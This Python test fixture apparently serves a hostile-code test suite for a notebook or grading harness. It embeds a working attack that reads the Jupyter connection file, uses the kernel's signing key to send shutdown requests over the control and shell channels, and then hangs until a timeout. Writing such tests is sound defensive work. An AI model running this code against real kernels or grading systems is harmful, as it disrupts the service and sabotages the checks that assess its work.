"""Tells its own kernel to shut down, over every channel for requests and with the kernel's own key."""

from helpers.hostile_attacks import Ending

ATTACK = Ending(
    aims_at="marks",
    holds="None is read while a cell runs: the statement has its time, and is left out of the next kernel.",
    ends=("timeout",),
    code="""
import json
import time
import zmq
from jupyter_client.session import Session

def attack():
    with open("/job/connection.json") as file:
        connection = json.load(file)
    session = Session(key=connection["key"].encode(), signature_scheme=connection["signature_scheme"])
    context = zmq.Context()
    socket = context.socket(zmq.DEALER)
    for channel in ("control_port", "shell_port"):
        socket.connect("ipc://%s-%d" % (connection["ip"], connection[channel]))
        session.send(socket, "shutdown_request", {"restart": False})
    while True:
        time.sleep(1)
""",
)
